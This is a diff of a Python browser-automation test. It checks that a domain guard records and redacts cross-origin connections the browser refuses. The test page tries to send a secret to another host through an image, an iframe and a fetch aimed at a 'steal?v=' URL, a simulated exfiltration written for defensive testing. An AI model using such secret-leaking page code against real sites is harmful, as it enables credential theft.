@@ -427,29 +427,36 @@ SECRET = "hunter2 pass!"
 async def test_connections_the_browser_refuses_are_recorded(page, server, cross_server, hostile, monkeypatch, caplog,
                                                             how: str) -> None:
     """The header refuses a guarded document's connections elsewhere before any route or DevTools
-    interception sees them: the guard records them from the browser's failed-request events, with
-    the URL redacted in its log. The control drops those events: the refusals go unrecorded (the
-    routes never saw them), and the hostile host is still not reached."""
+    interception sees them: the guard records them from the browser's failed-request events and
+    error pages, with the URL redacted in its log. The control takes both recorders' events
+    without recording them: the events come (each waited for), nothing else records the refusals
+    (the routes never saw them), and the hostile host is still not reached."""
     from stagehand_py._secrets import redact_text
 
     steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
-    # window.settled: all three loads ended (each fails or arrives); the event the test waits for,
-    # after which nothing more can reach the hostile host.
+    # window.settled: once all three loads ended, how the fetch ended: 'ok' had it reached the other
+    # host (no-cors: an opaque answer), 'failed' refused. (The image and the frame tell nothing from
+    # the page: an HTML answer is no image, and a frame's error page fires onload.)
     html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
             "<script>const ended = (el) => new Promise((done) => { el.onload = el.onerror = done; });"
             " window.settled = Promise.all([ended(document.querySelector('img')), ended(document.querySelector('iframe')),"
-            f" fetch('{steal}&fetch').catch(() => 0)]).then(() => true);</script>")
+            f" fetch('{steal}&fetch', {{mode: 'no-cors'}}).then(() => 'ok', () => 'failed')]).then((ends) => ends[2]);"
+            "</script>")
+    seen: list[str] = []  # the control: what reached the recorders, unrecorded
     if how != "guarded":
-        monkeypatch.setattr(RouteCheck, "on_request_failed", lambda self, request: None)
-        monkeypatch.setattr(DomainGuard, "_on_error_page", lambda self, page, frame: None)
+        monkeypatch.setattr(RouteCheck, "on_request_failed", lambda self, request: seen.append(request.url))
+        monkeypatch.setattr(DomainGuard, "_on_error_page",
+                            lambda self, page, frame: seen.append(str(frame.get("unreachableUrl") or "")))
     guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page, redact=lambda t: redact_text(t, {"pw": SECRET}))
     await guard.install()
+    events = (lambda: len(guard.blocked) >= 3) if how == "guarded" else (
+        lambda: all(any(url.endswith(end) for url in seen) for end in ("&img", "&fetch", "&frame")))
     try:
         with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
             await page.goto(server.url("refused"))
-            assert await page.evaluate("window.settled")
-            for _ in range(80 if how == "guarded" else 0):  # the records come as browser events
-                if len(guard.blocked) >= 3:
+            assert await page.evaluate("window.settled") == "failed"  # refused
+            for _ in range(80):  # the records (or, in the control, the events) come as browser events
+                if events():
                     break
                 await page.wait_for_timeout(250)
     finally:
@@ -463,5 +470,6 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
         assert "allowed_domains: blocked" in logged
         assert SECRET not in logged and urllib.parse.quote(SECRET) not in logged
     else:
-        assert recorded == set()  # the control: no route saw them
+        assert events(), seen  # the browser's events came ...
+        assert recorded == set()  # ... and nothing else recorded the refusals: no route saw them
 
